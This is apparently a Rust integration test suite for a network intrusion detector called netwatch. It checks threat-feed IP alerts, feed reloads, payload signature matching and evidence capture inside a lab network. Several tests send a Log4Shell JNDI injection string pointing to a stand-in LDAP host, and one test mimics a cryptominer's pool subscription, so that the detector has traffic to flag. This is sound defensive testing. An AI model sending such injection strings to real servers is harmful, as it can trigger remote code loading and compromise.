//! Listed addresses and payload signatures, from the wire to the alert.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::thread;
use std::time::Duration;

use nix::sys::signal::Signal;
use serde_json::Value;
use xtask::lab::Lab;

use crate::incident::{Incident, incidents};
use crate::lab;
use crate::process::{Netwatch, PATIENCE};
use crate::reload::File;
use crate::wire::{OUTSIDE, TARGET, host};

/// A feed that goes with this value.
struct Feed(PathBuf);

impl Feed {
    fn new(name: &str, text: &str) -> Self {
        let feed = Self(std::env::temp_dir().join(format!("netwatch-{name}-{}.txt", std::process::id())));
        feed.replace(text);
        feed
    }

    /// At once, as who fetches feeds should do.
    fn replace(&self, text: &str) {
        let new = self.0.with_extension("new");
        fs::write(&new, text).unwrap();
        fs::rename(&new, &self.0).unwrap();
    }

    fn option(&self) -> String {
        format!("--feed bad={}", self.0.display())
    }
}

impl Drop for Feed {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

/// A laboratory in which the outside is these hosts, too, and the watched side knows the way there.
fn lab_with(hosts: &[u8]) -> Lab {
    let lab = lab();
    for last in hosts {
        lab.outside().add_address(host(*last).into(), 32).unwrap();
    }
    let route = ["route", "add", "203.0.113.0/24", "via", &OUTSIDE.to_string()];
    assert!(lab.watched().command("ip").args(route).status().unwrap().success());
    lab
}

/// Connects from a host outside to a port of the watched side, which accepts.
#[track_caller]
fn connect(lab: &Lab, from: Ipv4Addr, port: u16) -> (TcpStream, TcpStream) {
    let to = SocketAddr::from((TARGET, port));
    let listener = lab.watched().run(|| TcpListener::bind(to).unwrap()).unwrap();
    let client = lab.outside().run(|| connect_from(from, to)).unwrap();
    (client, listener.accept().unwrap().0)
}

/// Connects from the watched side to a host outside, which accepts.
#[track_caller]
fn connect_out(lab: &Lab, to: Ipv4Addr, port: u16) -> (TcpStream, TcpStream) {
    let to = SocketAddr::from((to, port));
    let listener = lab.outside().run(|| TcpListener::bind(to).unwrap()).unwrap();
    let client = lab.watched().run(|| TcpStream::connect(to).unwrap()).unwrap();
    (client, listener.accept().unwrap().0)
}

fn connect_from(from: Ipv4Addr, to: SocketAddr) -> TcpStream {
    use nix::sys::socket::{AddressFamily, SockFlag, SockType, SockaddrIn, bind, connect, socket};
    use std::os::fd::AsRawFd as _;
    let SocketAddr::V4(to) = to else { panic!("IPv4") };
    let socket = socket(AddressFamily::Inet, SockType::Stream, SockFlag::empty(), None).unwrap();
    bind(socket.as_raw_fd(), &SockaddrIn::from(std::net::SocketAddrV4::new(from, 0))).unwrap();
    connect(socket.as_raw_fd(), &SockaddrIn::from(to)).unwrap();
    socket.into()
}

/// Sends in one piece each, so that each is a packet of its own, and waits until they have arrived.
#[track_caller]
fn say(from: &mut TcpStream, to: &mut TcpStream, pieces: &[&[u8]]) {
    from.set_nodelay(true).unwrap();
    to.set_read_timeout(Some(PATIENCE)).unwrap();
    for piece in pieces {
        from.write_all(piece).unwrap();
        to.read_exact(&mut vec![0; piece.len()]).unwrap();
    }
}

/// The incidents of a rule.
fn of<'a>(incidents: &'a [Incident], rule: &str) -> Vec<&'a Incident> {
    incidents.iter().filter(|incident| incident.context("rule") == rule).collect()
}

/// Who is listed, how severe that is, and packets each way: `203.0.113.7 high bad 203.0.113.0/28 4 3`.
fn listed(alerts: &[Value]) -> Vec<String> {
    let all = incidents(alerts);
    let mut told: Vec<_> = of(&all, "ioc.ip")
        .into_iter()
        .map(|incident| {
            let context = |key| incident.context(key).to_string().replace('"', "");
            let keys = ["source", "severity", "feed", "entry", "inbound_packets", "outbound_packets"];
            keys.map(context).join(" ")
        })
        .collect();
    told.sort();
    told
}

const INFO: &str = "--min-severity info";

#[test]
fn who_knocks_is_information_and_who_is_talked_to_is_not() {
    let lab = lab_with(&[1, 2, 3, 4, 17]);
    let feed = Feed::new("talk", "# made up\n203.0.113.0/28 ; EX1\n198.51.100.2\n");
    let netwatch = Netwatch::start(lab.watched(), &format!("{INFO} {}", feed.option()));
    // One knocks at a closed port, and is answered with a reset.
    lab.outside()
        .run(|| {
            use nix::sys::socket::{AddressFamily, SockFlag, SockType, SockaddrIn, bind, connect, socket};
            use std::os::fd::AsRawFd as _;
            let socket = socket(AddressFamily::Inet, SockType::Stream, SockFlag::empty(), None).unwrap();
            bind(socket.as_raw_fd(), &SockaddrIn::from(std::net::SocketAddrV4::new(host(1), 0))).unwrap();
            let to = SockaddrIn::from(std::net::SocketAddrV4::new(TARGET, 9_999));
            connect(socket.as_raw_fd(), &to).unwrap_err();
        })
        .unwrap();
    // One is served.
    drop(connect(&lab, host(2), 8_080));
    // To one somebody here connects, and one is asked over UDP; one asks over UDP and is answered.
    drop(connect_out(&lab, host(3), 443));
    let here = lab.watched().run(|| UdpSocket::bind((TARGET, 5_000)).unwrap()).unwrap();
    here.send_to(b"?", (host(4), 53)).unwrap();
    let there = lab.outside().run(|| UdpSocket::bind((host(1), 6_000)).unwrap()).unwrap();
    there.send_to(b"?", (TARGET, 5_000)).unwrap();
    here.set_read_timeout(Some(PATIENCE)).unwrap();
    let (_, asker) = here.recv_from(&mut [0; 9]).unwrap();
    here.send_to(b"!", asker).unwrap();
    // One is not listed, and one is but belongs to a network that the host is connected to.
    drop(connect(&lab, host(17), 8_081));
    drop(connect(&lab, OUTSIDE, 8_082));
    thread::sleep(Duration::from_millis(1_200));
    let alerts = netwatch.alerts();
    let told = listed(&alerts);
    let without_counts: Vec<_> = told.iter().map(|line| line.rsplitn(3, ' ').last().unwrap()).collect();
    assert_eq!(
        without_counts,
        [
            "203.0.113.1 info bad 203.0.113.0/28",
            "203.0.113.2 high bad 203.0.113.0/28",
            "203.0.113.3 high bad 203.0.113.0/28",
            "203.0.113.4 high bad 203.0.113.0/28",
        ],
        "{told:#?}"
    );
    assert!(told[0].ends_with(" 2 2"), "a SYN, its reset, a question and its answer: {told:?}");
    let all = incidents(&alerts);
    let out = of(&all, "ioc.ip").into_iter().find(|incident| incident.context("source") == "203.0.113.3");
    let out = out.unwrap();
    assert_eq!(
        (&out.close["src_ip"], &out.close["dest_ip"]),
        (&"198.51.100.1".into(), &"203.0.113.3".into())
    );
    assert_eq!((&out.close["dest_port"], out.context("comment")), (&443.into(), &"EX1".into()));
    assert_eq!((out.context("spoofable"), out.context("contacted")), (&false.into(), &true.into()));
}

#[test]
fn a_feed_is_taken_when_its_file_changes_and_a_damaged_one_is_not() {
    let lab = lab_with(&[1, 2, 3]);
    let feed = Feed::new("change", "203.0.113.1\n");
    let mut netwatch = Netwatch::start(lab.watched(), &format!("{INFO} {}", feed.option()));
    drop(connect(&lab, host(1), 8_080));
    drop(connect(&lab, host(2), 8_080));

    feed.replace("203.0.113.1\n203.0.113.2 # new\n");
    netwatch.wait_for("feeds loaded again: 2 entries");
    drop(connect(&lab, host(2), 8_081));

    feed.replace("203.0.113.1\nthis is no address\n203.0.113.3\n");
    netwatch.wait_for(":2: ");
    netwatch.wait_for("stays in use");
    drop(connect(&lab, host(3), 8_082));
    drop(connect(&lab, host(2), 8_083));

    feed.replace("203.0.113.3\n203.0.113.2\n");
    // Nobody has to wait for the next look.
    netwatch.signal(Signal::SIGHUP);
    netwatch.wait_for("feeds loaded again: 2 entries");
    drop(connect(&lab, host(3), 8_084));
    thread::sleep(Duration::from_millis(1_200));
    let told = listed(&netwatch.alerts());
    let sources: Vec<_> = told.iter().filter_map(|line| line.split(' ').next()).collect();
    assert_eq!(sources, ["203.0.113.1", "203.0.113.2", "203.0.113.3"], "{told:#?}");
    // The first connection of the second came before it was listed, the one of the third while the file was damaged: each
    // connection is four packets in at most, with its end.
    let inbound = |line: &str| line.split(' ').nth(4).unwrap().parse::<u64>().unwrap();
    assert!((3..=11).contains(&inbound(&told[1])), "two of three connections: {told:#?}");
    assert!((2..=7).contains(&inbound(&told[2])), "one of two: {told:#?}");
}

/// Which signatures were told, of whom, and to whom: `203.0.113.7 web.log4shell 198.51.100.1:8080`.
fn matched(alerts: &[Value]) -> Vec<String> {
    let all = incidents(alerts);
    let mut told: Vec<_> = of(&all, "payload.match")
        .into_iter()
        .map(|incident| {
            let text = |value: &Value| value.to_string().replace('"', "");
            let [source, dest, port] =
                ["src_ip", "dest_ip", "dest_port"].map(|key| text(&incident.open[key]));
            format!("{source} {} {dest}:{port}", text(incident.context("signature_id")))
        })
        .collect();
    told.sort();
    told
}

#[test]
fn what_a_flow_begins_with_is_compared_with_signatures_whichever_way_it_goes() {
    let lab = lab_with(&[1, 2, 3, 4]);
    let own = File::new(
        "own-signatures",
        "[[signature]]\nid = \"own.banner\"\nname = \"an old server\"\nproto = \"tcp\"\nports = [\"2222\"]\n\
         from = \"server\"\ntext = \"SSH-1.5-old\"\nseverity = \"low\"\nreference = \"RFC 4253\"\n",
    );
    let options = own.option().replace("-c ", "--signatures ");
    let netwatch = Netwatch::start(lab.watched(), &options);
    netwatch.signal(Signal::SIGHUP);
    let attack: &[u8] = b"GET /?x=${jndi:ldap://203.0.113.1/a} HTTP/1.1\r\nHost: a.example\r\n\r\n";
    // In one piece, in many pieces, and too late in a flow to be its beginning.
    let (mut client, mut server) = connect(&lab, host(1), 8_080);
    say(&mut client, &mut server, &[attack]);
    let (mut client, mut server) = connect(&lab, host(2), 8_080);
    say(&mut client, &mut server, &[&attack[..7], &attack[7..12], &attack[12..]]);
    let (mut client, mut server) = connect(&lab, host(3), 8_080);
    let harmless: &[u8] = b"GET /index.html HTTP/1.1\r\nHost: a.example\r\n\r\n";
    say(&mut client, &mut server, &[harmless; 50]);
    say(&mut client, &mut server, &[attack]);
    // What a host of ours sends: a miner that asks a pool for work. And what a server says to one of ours.
    let (mut miner, mut pool) = connect_out(&lab, host(4), 3_333);
    let subscribe = b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"miner/1.0\"]}\n";
    say(&mut miner, &mut pool, &[subscribe]);
    let (mut client, mut server) = connect_out(&lab, host(4), 2_222);
    say(&mut server, &mut client, &[b"SSH-1.5-old\r\n"]);
    thread::sleep(Duration::from_millis(300));
    let alerts = netwatch.alerts();
    let told = matched(&alerts);
    let miner = told.iter().find(|line| line.starts_with("198.51.100.1 ")).unwrap();
    assert!(miner.contains("stratum") && miner.ends_with(" 203.0.113.4:3333"), "{told:#?}");
    assert_eq!(told.len(), 4, "{told:#?}");
    assert_eq!(told[1], "203.0.113.1 web.log4shell 198.51.100.1:8080");
    assert_eq!(told[2], "203.0.113.2 web.log4shell 198.51.100.1:8080");
    assert!(told[3].starts_with("203.0.113.4 own.banner 198.51.100.1:"), "{told:#?}");
    let all = incidents(&alerts);
    let attack =
        of(&all, "payload.match").into_iter().find(|incident| incident.open["src_ip"] == "203.0.113.1");
    let attack = attack.unwrap();
    assert_eq!((attack.severity(), attack.context("spoofable")), ("high", &false.into()));
    assert!(attack.context("excerpt").as_str().unwrap().contains("${jndi:ldap://"));
}

#[test]
fn samples_are_bounded_and_those_that_are_not_taken_are_counted() {
    let lab = lab();
    let file = File::new("rate", "[signatures]\nrate = 100\n");
    let netwatch = Netwatch::start(lab.watched(), &file.option());
    let port = 123;
    let frames: Vec<_> = (0..20_000_u16)
        .map(|number| {
            let source = Ipv4Addr::from(0xcb00_0000 + u32::from(number));
            xtask::traffic::Frame::ipv4(source, TARGET).udp(30_000, port, b"anything at all").build()
        })
        .collect();
    crate::wire::send_at(&lab, &frames, 20_000);
    netwatch.signal(Signal::SIGINT);
    let ended = netwatch.ended();
    let line = ended.stderr.iter().find(|line| line.contains("looked into: "));
    let line = line.expect("what was looked into is told");
    let numbers: Vec<u64> =
        line.split(|c: char| !c.is_ascii_digit()).filter_map(|word| word.parse().ok()).collect();
    assert_eq!(numbers.iter().sum::<u64>(), 20_000, "{line}");
    // Some periods of ten packets, however long the sender took.
    assert!((10..=10_000).contains(&numbers[0]), "{line}");
}

#[test]
fn what_is_wrong_with_a_feed_is_said_at_the_start() {
    let lab = lab();
    let feed = Feed::new("wrong", "203.0.113.1\nno address\n");
    let mut command = crate::process::command(lab.watched(), &feed.option());
    let netwatch = Netwatch::spawn(command.args(["-i", lab.watched().interface()]));
    let ended = netwatch.ended();
    assert_eq!(ended.status.code(), Some(2), "{:#?}", ended.stderr);
    let path = feed.0.display().to_string();
    assert!(ended.stderr.iter().any(|line| line.contains(&format!("{path}:2: "))), "{:#?}", ended.stderr);
}

#[test]
fn packets_of_an_incident_are_kept_and_the_alert_says_where() {
    let lab = lab_with(&[1, 2]);
    let dir = std::env::temp_dir().join(format!("netwatch-evidence-{}", std::process::id()));
    let netwatch = Netwatch::start(lab.watched(), &format!("--evidence {}", dir.display()));
    let (mut client, mut server) = connect(&lab, host(1), 8_080);
    say(
        &mut client,
        &mut server,
        &[b"GET /?x=${jndi:ldap://203.0.113.1/a} HTTP/1.1\r\nHost: a.example\r\n\r\n"],
    );
    // What comes after the alert is kept, both ways; of others nothing is.
    thread::sleep(Duration::from_millis(300));
    say(&mut server, &mut client, &[b"HTTP/1.1 404 Not Found\r\n\r\n"]);
    let (mut other, mut served) = connect(&lab, host(2), 8_081);
    say(&mut other, &mut served, &[b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"]);
    thread::sleep(Duration::from_millis(300));
    let alerts = netwatch.alerts();
    let path = alerts[0]["alert"]["context"]["evidence_file"].as_str().expect("a file").to_owned();
    assert!(path.starts_with(dir.to_str().unwrap()), "{path}");
    assert_eq!(
        fs::read_dir(&dir)
            .unwrap()
            .filter(|entry| { entry.as_ref().unwrap().path().extension().is_some_and(|end| end == "pcapng") })
            .count(),
        1
    );
    let bytes = fs::read(&path).unwrap();
    let holds = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
    assert!(holds(b"${jndi:ldap://203.0.113.1/a}"), "the packet that matched");
    assert!(holds(b"404 Not Found"), "the answer");
    assert!(holds(b"payload.match"), "the alert");
    assert!(!holds(&host(2).octets()), "somebody else");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut captures = netwatch::capture::Captures::open_until(&[path.into()], &stop).unwrap();
    let mut packets = 0;
    while captures.next().is_some() {
        packets += 1;
    }
    assert!((3..=64).contains(&packets), "{packets} packets");
    fs::remove_dir_all(&dir).unwrap();
}
